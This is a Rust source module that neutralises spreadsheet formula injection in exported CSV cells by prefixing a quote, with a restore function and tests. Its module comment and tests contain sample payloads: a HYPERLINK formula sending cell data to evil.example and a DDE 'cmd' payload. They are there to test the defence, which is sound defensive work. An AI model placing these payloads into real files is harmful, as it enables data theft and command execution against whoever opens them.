//! Cells of the CSV files we export, made safe to open in a spreadsheet, and read back.
//!
//! A spreadsheet runs a cell starting with `=`, `+`, `-` or `@` as a formula (tab and carriage
//! return can smuggle one past a naive check), so a customer named
//! `=HYPERLINK("http://evil.example/?"&A1,"x")` would run in the sheet of whoever opens the
//! export. Following OWASP's rule, every such cell is written with a leading `'`, which
//! spreadsheets read as "text". That includes legitimate values such as `-15% churn`: a
//! spreadsheet shows them with the quote, and our imports take it off again.
//!
//! So that our imports can tell our quote from a value's own, a value that itself starts
//! with `'` gets one too (`'quoted` is written `''quoted`), and an import takes off one
//! leading quote only when a quote or one of the formula characters follows it. Every value
//! round-trips exactly; a quote that another tool's export left in front of ordinary text
//! (`'Acme`) is kept as it is.

use std::borrow::Cow;

/// What a spreadsheet may take for the start of a formula (OWASP's list).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The prefix that makes a spreadsheet read a cell as text.
const QUOTE: char = '\'';

fn needs_quote(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS) || text.starts_with(QUOTE)
}

/// `value` as an exported cell: quoted when a spreadsheet would run it as a formula, or when
/// it starts with a quote of its own (so [`restore`] gives it back unchanged).
pub fn neutralise(value: &str) -> Cow<'_, str> {
    if needs_quote(value) {
        Cow::Owned(format!("{QUOTE}{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// The value an exported `cell` holds: the inverse of [`neutralise`]. Used by every import
/// that reads our exports back.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix(QUOTE) {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_are_written_as_text() {
        for (value, cell) in [
            (
                r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#,
                r#"'=HYPERLINK("http://evil.example/?"&A1,"x")"#,
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("-15% churn", "'-15% churn"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("'quoted", "''quoted"),
            ("''", "'''"),
            ("Acme Corp", "Acme Corp"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(neutralise(value), cell, "{value:?}");
            assert_eq!(restore(cell), value, "{cell:?}");
        }
    }

    #[test]
    fn a_quote_before_ordinary_text_is_the_values_own() {
        assert_eq!(restore("'Acme"), "'Acme");
        assert_eq!(restore("'"), "'");
        assert_eq!(restore("'=1+1"), "=1+1", "another tool's neutralised cell");
    }

    proptest! {
        #[test]
        fn every_value_round_trips_and_no_cell_starts_a_formula(value in ".*") {
            let cell = neutralise(&value);
            prop_assert!(!cell.starts_with(FORMULA_STARTS));
            prop_assert_eq!(restore(&cell), value.as_str());
        }

        #[test]
        fn values_that_look_exported_round_trip_too(value in "['=+@-]{0,3}.{0,8}") {
            let cell = neutralise(&value);
            prop_assert!(!cell.starts_with(FORMULA_STARTS));
            prop_assert_eq!(restore(&cell), value.as_str());
        }
    }
}
